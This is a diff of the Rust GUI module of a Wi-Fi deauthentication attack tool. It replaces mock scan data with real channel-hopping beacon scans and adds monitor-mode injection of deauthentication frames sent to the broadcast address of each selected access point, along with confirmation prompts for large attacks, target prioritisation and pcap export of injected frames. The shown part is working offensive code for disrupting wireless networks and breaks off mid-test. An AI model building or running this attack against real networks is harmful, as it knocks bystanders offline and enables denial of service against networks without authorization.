@@ -3,48 +3,90 @@
 //! This module implements the main application logic that bridges the
 //! Slint UI with the core deauthentication engine.
 
-use crate::{core::{DeauthEngine, EngineConfig, Metrics}, network::{InterfaceManager, NetworkInterface}, Result};
+use crate::{core::{packet::{format_mac, parse_mac, reason_codes, MacAddress, ReasonCode}, AttackProfile, AttackTarget, DeauthEngine, EngineConfig, Metrics, Warning, Warnings}, network::{InterfaceManager, NetworkInterface, PacketCapture, PacketInjector, DedupCapture, SupervisedCapture}, DeauthError, Result};
+use crate::network::{capture::{CaptureSource, CaptureStats}, injection::InjectionStats};
+use super::export::{export_injected_frames, ExportConfig};
+use super::scan::ScanCoordinator;
+use super::signal::SignalPoller;
+use super::targets::TargetManager;
+use crate::core::event::Event;
 use slint::{Model, ModelRc, SharedString, VecModel, Weak};
 use std::rc::Rc;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::Arc;
+use std::thread;
 use std::time::Duration;
 use tokio::sync::broadcast;
 use tracing::{debug, error, info, warn};
 
 slint::include_modules!();
 
+/// Injected frames kept for the per-attack pcap written on stop
+const INJECTED_FRAME_LIMIT: usize = 100_000;
+
+/// Delay between frames sent to a target
+const ATTACK_INTERVAL: Duration = Duration::from_millis(100);
+
+/// Application operating mode
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum AppMode {
+    /// Scanning and packet injection
+    Full,
+    
+    /// Scanning only, used when injection privileges are missing
+    ScanOnly,
+}
+
 /// Main GUI application
 pub struct DeauthApp {
     ui: MainWindow,
+    mode: AppMode,
     engine: Arc<DeauthEngine>,
     interface_manager: Arc<InterfaceManager>,
+    injector: Arc<parking_lot::Mutex<InjectorBinding>>,
+    targets: Arc<parking_lot::Mutex<TargetManager>>,
+    signals: Arc<parking_lot::Mutex<SignalWatch>>,
     metrics_receiver: broadcast::Receiver<crate::core::engine::MetricsUpdate>,
 }
 
 impl DeauthApp {
     /// Create a new GUI application
     pub async fn new() -> Result<Self> {
-        info!("Initializing GUI application");
-        
-        // Create the UI
-        let ui = MainWindow::new().map_err(|e| crate::DeauthError::InterfaceError(format!("Failed to create UI: {}", e)))?;
+        Self::with_mode(AppMode::Full).await
+    }
+    
+    /// Create a new GUI application in the given mode
+    pub async fn with_mode(mode: AppMode) -> Result<Self> {
+        info!("Initializing GUI application ({:?} mode)", mode);
         
-        // Create engine with default config
-        let config = EngineConfig::default();
-        let mut engine = DeauthEngine::new(config)?;
-        engine.start()?;
+        // Create the UI before starting the engine so a missing display
+        // never leaves worker threads behind
+        let (ui, engine) = create_ui_then_engine(
+            || MainWindow::new().map_err(|e| DeauthError::InterfaceError(format!("Failed to create UI: {}", e))),
+            || DeauthEngine::new(EngineConfig {
+                record_injected_frames: Some(INJECTED_FRAME_LIMIT),
+                ..EngineConfig::default()
+            }),
+        )?;
+        ui.set_scan_only(mode == AppMode::ScanOnly);
+        update_reason_code_list(&ui);
         let engine = Arc::new(engine);
         
-        // Create interface manager
-        let interface_manager = Arc::new(InterfaceManager::new()?);
+        // Create interface manager; on failure the engine is dropped and its workers joined.
+        // Drivers differ on switching an interface that is up, so monitor mode cycles the link.
+        let interface_manager = Arc::new(InterfaceManager::new()?.with_link_cycling(true));
         
         // Subscribe to metrics updates
         let metrics_receiver = engine.subscribe_metrics();
         
         let mut app = Self {
             ui,
+            mode,
             engine,
             interface_manager,
+            injector: Arc::new(parking_lot::Mutex::new(InjectorBinding::default())),
+            targets: Arc::new(parking_lot::Mutex::new(TargetManager::new())),
+            signals: Arc::new(parking_lot::Mutex::new(SignalWatch::default())),
             metrics_receiver,
         };
         
@@ -63,6 +105,7 @@ impl DeauthApp {
         let ui_handle = self.ui.as_weak();
         let engine = Arc::clone(&self.engine);
         let interface_manager = Arc::clone(&self.interface_manager);
+        let targets = Arc::clone(&self.targets);
         
         // Scan button callback
         let scan_handle = ui_handle.clone();
@@ -70,15 +113,15 @@ impl DeauthApp {
             let ui = scan_handle.unwrap();
             let engine = Arc::clone(&engine);
             let interface_manager = Arc::clone(&interface_manager);
+            let targets = Arc::clone(&targets);
             
             tokio::spawn(async move {
                 info!("Scan button clicked");
                 ui.set_is_scanning(true);
                 
-                match perform_scan(&interface_manager).await {
-                    Ok(targets) => {
-                        update_target_list(&ui, targets);
-                        info!("Scan completed successfully");
+                match perform_scan(&ui, &interface_manager, &targets).await {
+                    Ok(found) => {
+                        info!("Scan completed successfully with {} targets", found);
                     }
                     Err(e) => {
                         error!("Scan failed: {}", e);
@@ -93,20 +136,93 @@ impl DeauthApp {
         // Attack button callback
         let attack_handle = ui_handle.clone();
         let engine_clone = Arc::clone(&self.engine);
-        self.ui.on_attack_clicked(move || {
+        let injector_clone = Arc::clone(&self.injector);
+        let targets_clone = Arc::clone(&self.targets);
+        let interface_manager_clone = Arc::clone(&self.interface_manager);
+        let signals_clone = Arc::clone(&self.signals);
+        let mode = self.mode;
+        self.ui.on_attack_clicked(move |confirmed| {
             let ui = attack_handle.unwrap();
             let engine = Arc::clone(&engine_clone);
             
+            if mode == AppMode::ScanOnly {
+                warn!("Attack requested in scan-only mode; injection privileges are missing");
+                return;
+            }
+            
+            let profile = match planned_attack(&ui, &targets_clone.lock()) {
+                Ok(profile) => profile,
+                Err(e) => {
+                    error!("Attack failed: {}", e);
+                    ui.set_error_message(SharedString::from(e.to_string()));
+                    return;
+                }
+            };
+            
+            // A large attack needs a second click, so an oversized count or target list is caught first
+            let estimate = engine.estimate(&profile);
+            info!("Attack estimate: {}", estimate);
+            if estimate.is_large() && !confirmed {
+                warn!("Large attack awaiting confirmation: {}", estimate);
+                ui.set_attack_confirmation(SharedString::from(format!("Large attack: {}. Confirm to launch", estimate)));
+                return;
+            }
+            ui.set_attack_confirmation(SharedString::default());
+            
+            let injector = Arc::clone(&injector_clone);
+            let interface_manager = Arc::clone(&interface_manager_clone);
+            let targets = Arc::clone(&targets_clone);
+            let signals = Arc::clone(&signals_clone);
             tokio::spawn(async move {
                 info!("Attack button clicked");
+                
+                // Monitor mode spawns `ip` and `iw`, so the injector is opened off the UI thread
+                let warnings = engine.warnings();
+                let access_points: Vec<MacAddress> = profile.targets.iter().map(|target| target.access_point).collect();
+                let follow_signals = Arc::clone(&signals);
+                let opened = tokio::task::spawn_blocking(move || -> Result<_> {
+                    let open = |interface: &str| open_injector(&interface_manager, interface, warnings);
+                    let mut binding = injector.lock();
+                    let injector = binding.injector(open)?;
+                    
+                    // Follow the attacked access points' signal on the attack interface
+                    if let Some(interface) = binding.interface() {
+                        let open = |access_points: &[MacAddress]| {
+                            let (name, access_points) = (interface.to_string(), access_points.to_vec());
+                            SupervisedCapture::new(interface, move || {
+                                PacketCapture::new_for_transmitters(&name, &access_points)
+                                    .map(|capture| Box::new(capture) as Box<dyn CaptureSource>)
+                            })
+                            .map(|capture| Box::new(capture) as Box<dyn CaptureSource>)
+                        };
+                        if let Err(e) = follow_signals.lock().follow(&access_points, &targets, open) {
+                            warn!("Not following target signal: {}", e);
+                        }
+                    }
+                    Ok(injector)
+                })
+                .await
+                .map_err(|e| DeauthError::InterfaceError(format!("Opening the injector failed: {}", e)))
+                .and_then(|opened| opened);
+                
+                // Attack through the injector for the selected interface
+                match opened {
+                    Ok(injector) => engine.set_injector(injector),
+                    Err(e) => {
+                        error!("Failed to open injector: {}", e);
+                        ui.set_error_message(SharedString::from(e.to_string()));
+                        return;
+                    }
+                }
                 ui.set_is_attacking(true);
                 
-                match perform_attack(&ui, &engine).await {
+                match perform_attack(&engine, &profile).await {
                     Ok(_) => {
                         info!("Attack started successfully");
                     }
                     Err(e) => {
                         error!("Attack failed: {}", e);
+                        signals.lock().stop();
                         ui.set_is_attacking(false);
                         // TODO: Show error dialog
                     }
@@ -117,9 +233,11 @@ impl DeauthApp {
         // Stop button callback
         let stop_handle = ui_handle.clone();
         let engine_clone = Arc::clone(&self.engine);
+        let signals_clone = Arc::clone(&self.signals);
         self.ui.on_stop_clicked(move || {
             let ui = stop_handle.unwrap();
             let engine = Arc::clone(&engine_clone);
+            signals_clone.lock().stop();
             
             tokio::spawn(async move {
                 info!("Stop button clicked");
@@ -128,6 +246,16 @@ impl DeauthApp {
                     Ok(_) => {
                         info!("Attack stopped successfully");
                         ui.set_is_attacking(false);
+                        
+                        let config = ExportConfig {
+                            filename_template: "injected_{timestamp}.pcap".to_string(),
+                            ..ExportConfig::default()
+                        };
+                        match export_injected_frames(&engine, config) {
+                            Ok(0) => {}
+                            Ok(frames) => info!("Wrote {} injected frames", frames),
+                            Err(e) => error!("Failed to export injected frames: {}", e),
+                        }
                     }
                     Err(e) => {
                         error!("Failed to stop attack: {}", e);
@@ -159,45 +287,139 @@ impl DeauthApp {
         
         // Interface change callback
         let interface_handle = ui_handle.clone();
+        let interface_manager_clone = Arc::clone(&self.interface_manager);
+        let injector_clone = Arc::clone(&self.injector);
         self.ui.on_interface_changed(move |interface| {
             let ui = interface_handle.unwrap();
             
-            tokio::spawn(async move {
-                info!("Interface changed to: {}", interface);
-                ui.set_selected_interface(interface.as_str());
-                // TODO: Update channel list based on interface
-            });
+            info!("Interface changed to: {}", interface);
+            ui.set_selected_interface(interface.clone());
+            ui.set_error_message(SharedString::default());
+            
+            // Attacks must not keep using the previous interface's device, which
+            // goes back to the link state it had before monitor mode
+            let rebound = injector_clone.lock().rebind(interface.as_str());
+            if rebound {
+                if let Err(e) = interface_manager_clone.restore_admin_states() {
+                    error!("Failed to restore the previous interface: {}", e);
+                }
+            }
+            
+            // Offer only the channels this interface supports
+            if let Some(selected) = interface_manager_clone.get_interface(interface.as_str()) {
+                update_channel_list(&ui, &selected.supported_channels);
+            }
         });
         
         // Channel change callback
         let channel_handle = ui_handle.clone();
+        let interface_manager_clone = Arc::clone(&self.interface_manager);
         self.ui.on_channel_changed(move |channel| {
             let ui = channel_handle.unwrap();
+            let interface = ui.get_selected_interface();
+            
+            let supported = u8::try_from(channel)
+                .ok()
+                .filter(|&channel| interface_manager_clone.is_channel_supported(interface.as_str(), channel));
+            
+            let Some(tuned) = supported else {
+                error!("Channel {} is not supported by {}", channel, interface);
+                ui.set_error_message(SharedString::from(format!("Channel {} is not supported by {}", channel, interface)));
+                return;
+            };
+            
+            info!("Channel changed to: {}", channel);
+            ui.set_selected_channel(channel);
+            ui.set_error_message(SharedString::default());
             
+            // Tune without blocking the runtime on `iw`
+            let interface_manager = Arc::clone(&interface_manager_clone);
             tokio::spawn(async move {
-                info!("Channel changed to: {}", channel);
-                ui.set_selected_channel(channel);
-                // TODO: Update interface channel
+                if let Err(e) = interface_manager.set_channel_async(interface.as_str(), tuned).await {
+                    error!("Failed to tune {} to channel {}: {}", interface, tuned, e);
+                    ui.set_error_message(SharedString::from(e.to_string()));
+                }
             });
         });
         
-        // Target selection callback
+        // Target selection callback, toggling the clicked row in and out of the attack
         let target_handle = ui_handle.clone();
+        let targets_clone = Arc::clone(&self.targets);
         self.ui.on_target_selected(move |index| {
             let ui = target_handle.unwrap();
+            let rows = ui.get_targets();
+            let Some((index, mut row)) = usize::try_from(index)
+                .ok()
+                .and_then(|index| Some((index, rows.row_data(index)?)))
+            else {
+                return;
+            };
+            let Ok(mac) = parse_mac(row.mac.as_str()) else {
+                warn!("Target row has an invalid MAC address: {}", row.mac);
+                return;
+            };
             
-            tokio::spawn(async move {
-                info!("Target selected: {}", index);
-                // TODO: Handle target selection
-            });
+            let mut targets = targets_clone.lock();
+            let selected = if row.selected {
+                targets.deselect_target(&mac);
+                false
+            } else if let Err(e) = targets.select_target(mac) {
+                warn!("Failed to select {}: {}", mac, e);
+                return;
+            } else {
+                true
+            };
+            info!("Target {} selected: {}", mac, selected);
+            
+            row.selected = selected;
+            rows.set_row_data(index, row);
+            
+            // A pending confirmation was for the previous selection
+            ui.set_attack_confirmation(SharedString::default());
+        });
+        
+        // Target star callback, serving starred targets' frames ahead of the rest
+        let star_handle = ui_handle.clone();
+        let targets_clone = Arc::clone(&self.targets);
+        let engine_clone = Arc::clone(&self.engine);
+        self.ui.on_target_starred(move |index| {
+            let ui = star_handle.unwrap();
+            let rows = ui.get_targets();
+            let Some((index, mut row)) = usize::try_from(index)
+                .ok()
+                .and_then(|index| Some((index, rows.row_data(index)?)))
+            else {
+                return;
+            };
+            let Ok(mac) = parse_mac(row.mac.as_str()) else {
+                warn!("Target row has an invalid MAC address: {}", row.mac);
+                return;
+            };
+            
+            let mut targets = targets_clone.lock();
+            targets.set_starred(mac, !row.starred);
+            engine_clone.set_priority_targets(targets.starred_targets());
+            
+            row.starred = targets.is_starred(&mac);
+            rows.set_row_data(index, row);
         });
         
         Ok(())
     }
     
+    /// Handle for recording warnings shown in the warnings panel
+    pub fn warnings(&self) -> Warnings {
+        self.engine.warnings()
+    }
+    
     /// Start metrics update task
+    ///
+    /// Pending engine warnings are moved into the warnings panel with each update,
+    /// and target rows pick up the signals followed during an attack.
     fn start_metrics_task(&mut self) {
         let ui_handle = self.ui.as_weak();
+        let engine = Arc::clone(&self.engine);
+        let targets = Arc::clone(&self.targets);
         let mut receiver = self.metrics_receiver.resubscribe();
         
         tokio::spawn(async move {
@@ -206,6 +428,8 @@ impl DeauthApp {
                     Ok(update) => {
                         if let Some(ui) = ui_handle.upgrade() {
                             update_ui_metrics(&ui, &update.metrics);
+                            append_ui_warnings(&ui, &engine.take_warnings());
+                            refresh_target_signals(&ui, &targets.lock());
                         }
                     }
                     Err(broadcast::error::RecvError::Lagged(n)) => {
@@ -220,74 +444,341 @@ impl DeauthApp {
         });
     }
     
+    /// Poll interface statistics into the status bar every `period`
+    pub fn start_interface_stats_task(
+        &self,
+        injector: Arc<parking_lot::Mutex<PacketInjector>>,
+        capture: Arc<PacketCapture>,
+        period: Duration,
+    ) {
+        let ui_handle = self.ui.as_weak();
+        
+        tokio::spawn(async move {
+            let mut interval = tokio::time::interval(period);
+            
+            loop {
+                interval.tick().await;
+                
+                let injection_stats = injector.lock().get_stats();
+                let (injection_stats, capture_stats) = match (injection_stats, capture.get_stats()) {
+                    (Ok(injection_stats), Ok(capture_stats)) => (injection_stats, capture_stats),
+                    (Err(e), _) | (_, Err(e)) => {
+                        warn!("Failed to poll interface statistics: {}", e);
+                        continue;
+                    }
+                };
+                
+                let ui = match ui_handle.upgrade() {
+                    Some(ui) => ui,
+                    None => break,
+                };
+                
+                let (tx, rx) = format_interface_stats(&injection_stats, &capture_stats);
+                ui.set_tx_stats(SharedString::from(tx));
+                ui.set_rx_stats(SharedString::from(rx));
+            }
+        });
+    }
+    
     /// Run the GUI application
     pub async fn run(self) -> Result<()> {
         info!("Running GUI application");
         
         // Show the UI
-        self.ui.run().map_err(|e| crate::DeauthError::InterfaceError(format!("UI error: {}", e)))?;
+        let result = self.ui.run().map_err(|e| crate::DeauthError::InterfaceError(format!("UI error: {}", e)));
+        
+        // Leave interfaces up or down as they were before monitor mode
+        self.signals.lock().stop();
+        self.injector.lock().close();
+        if let Err(e) = self.interface_manager.restore_admin_states() {
+            error!("Failed to restore interfaces: {}", e);
+        }
+        result?;
         
         info!("GUI application stopped");
         Ok(())
     }
 }
 
+/// Packet injector bound to the selected interface
+///
+/// Changing the interface closes the current injector; the next attack opens
+/// one for the new interface.
+#[derive(Default)]
+struct InjectorBinding {
+    interface: Option<String>,
+    injector: Option<Arc<parking_lot::Mutex<PacketInjector>>>,
+}
+
+impl InjectorBinding {
+    /// Bind to `interface`, closing the injector of a previous interface
+    ///
+    /// Returns whether the binding changed.
+    fn rebind(&mut self, interface: &str) -> bool {
+        if self.interface.as_deref() == Some(interface) {
+            return false;
+        }
+        
+        self.close();
+        self.interface = Some(interface.to_string());
+        true
+    }
+    
+    /// Interface the binding is for, if one has been selected
+    fn interface(&self) -> Option<&str> {
+        self.interface.as_deref()
+    }
+    
+    /// Close the injector, if open; the next attack opens it again
+    fn close(&mut self) {
+        if let Some(injector) = self.injector.take() {
+            injector.lock().close();
+        }
+    }
+    
+    /// Get the injector for the bound interface, opening it with `open` if needed
+    ///
+    /// A failed open leaves the binding unopened so the next attack retries.
+    fn injector(
+        &mut self,
+        open: impl FnOnce(&str) -> Result<PacketInjector>,
+    ) -> Result<Arc<parking_lot::Mutex<PacketInjector>>> {
+        if let Some(ref injector) = self.injector {
+            return Ok(Arc::clone(injector));
+        }
+        
+        let interface = self.interface
+            .as_deref()
+            .ok_or_else(|| DeauthError::InterfaceError("No interface selected".to_string()))?;
+        
+        let injector = Arc::new(parking_lot::Mutex::new(open(interface)?));
+        self.injector = Some(Arc::clone(&injector));
+        Ok(injector)
+    }
+}
+
+/// Signal poller following the access points under attack
+#[derive(Default)]
+struct SignalWatch {
+    stop: Arc<AtomicBool>,
+    poller: Option<thread::JoinHandle<Result<()>>>,
+}
+
+impl SignalWatch {
+    /// Follow `access_points` in `targets` on the one capture `open` returns for them
+    ///
+    /// The poller of a previous attack is stopped first.
+    fn follow(
+        &mut self,
+        access_points: &[MacAddress],
+        targets: &Arc<parking_lot::Mutex<TargetManager>>,
+        open: impl FnOnce(&[MacAddress]) -> Result<Box<dyn CaptureSource>>,
+    ) -> Result<()> {
+        self.stop();
+        
+        self.stop = Arc::new(AtomicBool::new(false));
+        let poller = SignalPoller::for_bssids(access_points, open(access_points)?, Arc::clone(targets));
+        self.poller = Some(poller.spawn(Arc::clone(&self.stop)));
+        Ok(())
+    }
+    
+    /// Tell the poller to stop without waiting for it
+    ///
+    /// A supervised capture can take seconds to give up re-opening, so the
+    /// poller is joined on a thread of its own instead of the caller's.
+    fn stop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        
+        if let Some(poller) = self.poller.take() {
+            thread::spawn(move || match poller.join() {
+                Ok(Ok(())) => {}
+                Ok(Err(e)) => warn!("Signal poller failed: {}", e),
+                Err(_) => error!("Signal poller panicked"),
+            });
+        }
+    }
+}
+
+/// Switch `interface` to monitor mode, then open and initialize an injector on it
+///
+/// Setup problems are reported to `warnings`.
+fn open_injector(interface_manager: &InterfaceManager, interface: &str, warnings: Warnings) -> Result<PacketInjector> {
+    let network_interface = interface_manager
+        .get_interface(interface)
+        .ok_or_else(|| DeauthError::InterfaceError(format!("Unknown interface {}", interface)))?;
+    interface_manager.enable_monitor_mode(&network_interface)?;
+    
+    let mut injector = PacketInjector::new(interface)?.with_warnings(warnings);
+    injector.initialize()?;
+    Ok(injector)
+}
+
+impl From<super::targets::Target> for Target {
+    fn from(target: super::targets::Target) -> Self {
+        Self {
+            mac: SharedString::from(format_mac(target.mac_address)),
+            ssid: SharedString::from(target.ssid),
+            channel: i32::from(target.channel),
+            signal: i32::from(target.signal_strength),
+            encryption: SharedString::from(target.encryption.to_string()),
+            packets: 0,
+            status: SharedString::from("Discovered"),
+            selected: false,
+            starred: false,
+        }
+    }
+}
+
+/// Target list row for the access point `mac`, starred as in `targets`
+///
+/// Stars outlive a rescan, so a rediscovered access point keeps its star.
+fn target_row(targets: &TargetManager, mac: &MacAddress) -> Option<Target> {
+    let target = targets.get_target(mac)?;
+    Some(Target {
+        starred: targets.is_starred(mac),
+        ..Target::from(target.clone())
+    })
+}
+
+/// How long a scan listens for beacons
+const SCAN_DURATION: Duration = Duration::from_secs(3);
+
+/// Time spent on each channel while scanning
+const SCAN_DWELL: Duration = Duration::from_millis(250);
+
 /// Perform network scan
-async fn perform_scan(interface_manager: &Arc<InterfaceManager>) -> Result<Vec<Target>> {
+///
+/// Access points found by an earlier scan, and the selection, are replaced.
+/// New ones are appended to the target list as they are discovered. Returns
+/// the number found.
+async fn perform_scan(
+    ui: &MainWindow,
+    interface_manager: &Arc<InterfaceManager>,
+    targets: &Arc<parking_lot::Mutex<TargetManager>>,
+) -> Result<usize> {
     info!("Performing network scan");
     
-    // Get Wi-Fi interfaces
-    let interfaces = interface_manager.get_wifi_interfaces();
-    if interfaces.is_empty() {
+    let Some(interface) = interface_manager.preferred_wifi_interface(ui.get_selected_interface().as_str()) else {
         return Err(crate::DeauthError::InterfaceError("No Wi-Fi interfaces found".to_string()));
+    };
+    
+    targets.lock().clear_targets();
+    ui.set_attack_confirmation(SharedString::default());
+    let mut coordinator = ScanCoordinator::new(Arc::clone(targets));
+    
+    // Resetting the interface mid-scan re-opens the capture instead of ending the scan,
+    // and a retransmitted beacon is seen once
+    let name = interface.name.clone();
+    let capture = SupervisedCapture::new(&interface.name, move || {
+        PacketCapture::new_for_scanning(&name).map(|capture| Box::new(capture) as Box<dyn CaptureSource>)
+    })?;
+    coordinator.add_interface_channels(&interface.name, &interface.supported_channels, SCAN_DWELL, Box::new(DedupCapture::new(Box::new(capture))));
+    let mut events = coordinator.subscribe();
+    
+    let manager = Arc::clone(interface_manager);
+    let scan = tokio::task::spawn_blocking(move || {
+        coordinator.run(SCAN_DURATION, |interface, channel| manager.set_channel(interface, channel))
+    });
+    
+    let rows = Rc::new(VecModel::<Target>::default());
+    ui.set_targets(ModelRc::from(Rc::clone(&rows)));
+    
+    // The channel closes when the coordinator is dropped at the end of the scan
+    loop {
+        match events.recv().await {
+            Ok(Event::TargetDiscovered { target }) => {
+                let row = target_row(&targets.lock(), &target);
+                if let Some(row) = row {
+                    rows.push(row);
+                }
+            }
+            Ok(_) => {}
+            Err(broadcast::error::RecvError::Lagged(missed)) => warn!("Scan list missed {} targets", missed),
+            Err(broadcast::error::RecvError::Closed) => break,
+        }
     }
     
-    // TODO: Implement actual network scanning
-    // For now, return mock targets
-    let mock_targets = vec![
-        Target {
-            mac: SharedString::from("AA:BB:CC:DD:EE:FF"),
-            ssid: SharedString::from("TestNetwork"),
-            channel: 6,
-            signal: -45,
-            packets: 0,
-            status: SharedString::from("Discovered"),
-        },
-        Target {
-            mac: SharedString::from("11:22:33:44:55:66"),
-            ssid: SharedString::from("AnotherAP"),
-            channel: 1,
-            signal: -62,
-            packets: 0,
-            status: SharedString::from("Discovered"),
-        },
-    ];
+    scan.await
+        .map_err(|e| DeauthError::InterfaceError(format!("Scan task failed: {}", e)))??;
     
-    Ok(mock_targets)
+    // Strongest first, by the signals heard up to the end of the scan
+    let targets = targets.lock();
+    let mut found = targets.get_targets();
+    found.sort_by_key(|target| (std::cmp::Reverse(target.signal_strength), target.mac_address));
+    rows.set_vec(found.iter().filter_map(|target| target_row(&targets, &target.mac_address)).collect::<Vec<_>>());
+    drop(targets);
+    
+    info!("Scan found {} access points", rows.row_count());
+    Ok(rows.row_count())
 }
 
-/// Perform deauthentication attack
-async fn perform_attack(ui: &MainWindow, engine: &Arc<DeauthEngine>) -> Result<()> {
-    info!("Starting deauthentication attack");
-    
-    // Get selected targets
-    let targets = ui.get_targets();
-    if targets.row_count() == 0 {
+/// Show the signal `targets` currently holds for each target row
+fn refresh_target_signals(ui: &MainWindow, targets: &TargetManager) {
+    let rows = ui.get_targets();
+    for index in 0..rows.row_count() {
+        let Some(mut row) = rows.row_data(index) else {
+            continue;
+        };
+        let Some(target) = parse_mac(row.mac.as_str()).ok().and_then(|mac| targets.get_target(&mac)) else {
+            continue;
+        };
+        
+        let signal = i32::from(target.signal_strength);
+        if row.signal != signal {
+            row.signal = signal;
+            rows.set_row_data(index, row);
+        }
+    }
+}
+
+/// Attack the Start button launches, built from the UI selection
+fn planned_attack(ui: &MainWindow, targets: &TargetManager) -> Result<AttackProfile> {
+    let access_points: Vec<MacAddress> = targets.get_selected_targets().iter().map(|target| target.mac_address).collect();
+    attack_profile(&access_points, selected_reason_code(ui), ui.get_frames_per_target())
+}
+
+/// Deauthenticate every client of `access_points`, sending `frames_per_target` frames to each
+fn attack_profile(access_points: &[MacAddress], reason_code: ReasonCode, frames_per_target: i32) -> Result<AttackProfile> {
+    if access_points.is_empty() {
         return Err(crate::DeauthError::ConfigError("No targets selected".to_string()));
     }
     
-    // TODO: Get actual MAC addresses from selected targets
-    let target_mac = mac_address::MacAddress::new([0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF]);
-    let ap_mac = mac_address::MacAddress::new([0x11, 0x22, 0x33, 0x44, 0x55, 0x66]);
+    let frames_per_target = u32::try_from(frames_per_target)
+        .ok()
+        .filter(|&count| count > 0)
+        .ok_or_else(|| DeauthError::invalid_field("frames_per_target", "must be at least 1"))?;
+    
+    let targets = access_points
+        .iter()
+        .map(|&access_point| AttackTarget {
+            target: MacAddress::new([0xFF; 6]),
+            access_point,
+        })
+        .collect();
+    
+    Ok(AttackProfile {
+        targets,
+        reason_code: Some(reason_code),
+        frames_per_target,
+        interval: ATTACK_INTERVAL,
+        ..AttackProfile::default()
+    })
+}
+
+/// Perform deauthentication attack
+async fn perform_attack(engine: &Arc<DeauthEngine>, profile: &AttackProfile) -> Result<()> {
+    info!("Starting deauthentication attack");
     
     // Start injection
-    engine.inject_deauth(
-        target_mac,
-        ap_mac,
-        crate::core::packet::reason_codes::UNSPECIFIED,
-        100, // packet count
-        Duration::from_millis(100), // interval
-    ).await?;
+    for target in &profile.targets {
+        engine.inject_deauth(
+            target.target,
+            target.access_point,
+            profile.reason_code,
+            profile.frames_per_target,
+            profile.interval,
+        ).await?;
+    }
     
     Ok(())
 }
@@ -302,23 +793,97 @@ async fn perform_export(ui: &MainWindow) -> Result<()> {
     Ok(())
 }
 
-/// Update target list in UI
-fn update_target_list(ui: &MainWindow, targets: Vec<Target>) {
-    let model = Rc::new(VecModel::from(targets));
-    ui.set_targets(ModelRc::from(model));
+/// Update the channel list in UI
+fn update_channel_list(ui: &MainWindow, channels: &[u8]) {
+    // An empty list means the interface has not reported its channels yet
+    if channels.is_empty() {
+        return;
+    }
+    
+    let channels: Vec<i32> = channels.iter().map(|&c| i32::from(c)).collect();
+    ui.set_channels(ModelRc::from(Rc::new(VecModel::from(channels))));
+}
+
+/// Fill the reason code dropdown
+fn update_reason_code_list(ui: &MainWindow) {
+    let labels: Vec<SharedString> = reason_codes::all()
+        .iter()
+        .map(|&code| SharedString::from(format!("{} - {}", code, reason_codes::description(code))))
+        .collect();
+    ui.set_reason_codes(ModelRc::from(Rc::new(VecModel::from(labels))));
+}
+
+/// Reason code picked in the dropdown, falling back to the first listed code
+fn selected_reason_code(ui: &MainWindow) -> ReasonCode {
+    let codes = reason_codes::all();
+    usize::try_from(ui.get_selected_reason_index())
+        .ok()
+        .and_then(|index| codes.get(index).copied())
+        .unwrap_or(codes[0])
 }
 
 /// Update UI metrics
 fn update_ui_metrics(ui: &MainWindow, metrics: &Metrics) {
-    let ui_metrics = Metrics {
-        packets_per_second: metrics.packets_per_second as i32,
-        success_rate: metrics.success_rate,
-        active_targets: metrics.active_targets as i32,
-        channel_utilization: metrics.channel_utilization,
-        bytes_transmitted: metrics.bytes_transmitted as i32,
-    };
+    ui.set_metrics(UiMetrics::from(metrics));
+}
+
+/// Slint's `int` is 32-bit and its `float` single precision, so counters
+/// saturate at `i32::MAX` and fractions are clamped to 0.0 - 1.0 and rounded
+/// to the nearest `f32`. The rate gauge shows the smoothed packets per second.
+impl From<&Metrics> for UiMetrics {
+    fn from(metrics: &Metrics) -> Self {
+        let int = |value: u64| i32::try_from(value).unwrap_or(i32::MAX);
+        let fraction = |value: f64| value.clamp(0.0, 1.0) as f32;
+        
+        Self {
+            packets_per_second: int(metrics.smoothed_pps.round().max(0.0) as u64),
+            success_rate: fraction(metrics.success_rate),
+            active_targets: int(metrics.active_targets as u64),
+            channel_utilization: fraction(metrics.channel_utilization),
+            bytes_transmitted: int(metrics.bytes_transmitted),
+        }
+    }
+}
+
+/// Append warnings to the warnings panel
+fn append_ui_warnings(ui: &MainWindow, warnings: &[Warning]) {
+    if warnings.is_empty() {
+        return;
+    }
+    
+    let mut lines: Vec<SharedString> = ui.get_warnings().iter().collect();
+    lines.extend(warnings.iter().map(|warning| SharedString::from(warning.to_string())));
+    ui.set_warnings(ModelRc::from(Rc::new(VecModel::from(lines))));
+}
+
+/// Render interface statistics as the status bar's TX and RX strings
+fn format_interface_stats(injection: &InjectionStats, capture: &CaptureStats) -> (String, String) {
+    let tx = format!(
+        "TX {} pkts, {} dropped, {} errors",
+        injection.packets_sent, injection.packets_dropped, injection.errors
+    );
+    let rx = format!(
+        "RX {} pkts, {} dropped",
+        capture.packets_captured, capture.packets_dropped
+    );
+    
+    (tx, rx)
+}
+
+/// Create the UI, then create and start the engine
+///
+/// The engine is only built once the UI exists, so a UI failure returns before
+/// any worker thread is spawned.
+fn create_ui_then_engine<U>(
+    create_ui: impl FnOnce() -> Result<U>,
+    create_engine: impl FnOnce() -> Result<DeauthEngine>,
+) -> Result<(U, DeauthEngine)> {
+    let ui = create_ui()?;
     
-    ui.set_metrics(ui_metrics);
+    let mut engine = create_engine()?;
+    engine.start()?;
+    
+    Ok((ui, engine))
 }
 
 #[cfg(test)]
@@ -331,4 +896,202 @@ mod tests {
         // For now, just test that the module compiles
         assert!(true);
     }
+    
+    #[tokio::test]
+    async fn test_ui_failure_leaves_no_workers() {
+        use crate::core::PacketBuffer;
+        
+        // Workers hold a reference to the buffer pool while they run
+        let pool = Arc::new(PacketBuffer::new(8, 256));
+        let create_engine = || DeauthEngine::with_buffer_pool(EngineConfig::default(), Arc::clone(&pool));
+        
+        let result = create_ui_then_engine(
+            || Err::<(), _>(DeauthError::InterfaceError("no display".to_string())),
+            create_engine,
+        );
+        assert!(matches!(result, Err(DeauthError::InterfaceError(_))));
+        assert_eq!(Arc::strong_count(&pool), 1);
+        
+        // With a working UI the workers run until the engine is dropped
+        let (_, engine) = create_ui_then_engine(|| Ok(()), create_engine).expect("Should start engine");
+        assert!(Arc::strong_count(&pool) > 1);
+        
+        drop(engine);
+        assert_eq!(Arc::strong_count(&pool), 1);
+    }
+    
+    #[test]
+    fn test_ui_metrics_conversion() {
+        let metrics = Metrics {
+            packets_per_second: 1400,
+            smoothed_pps: 1249.6,
+            success_rate: 0.876_543_21,
+            active_targets: 3,
+            channel_utilization: 1.2,
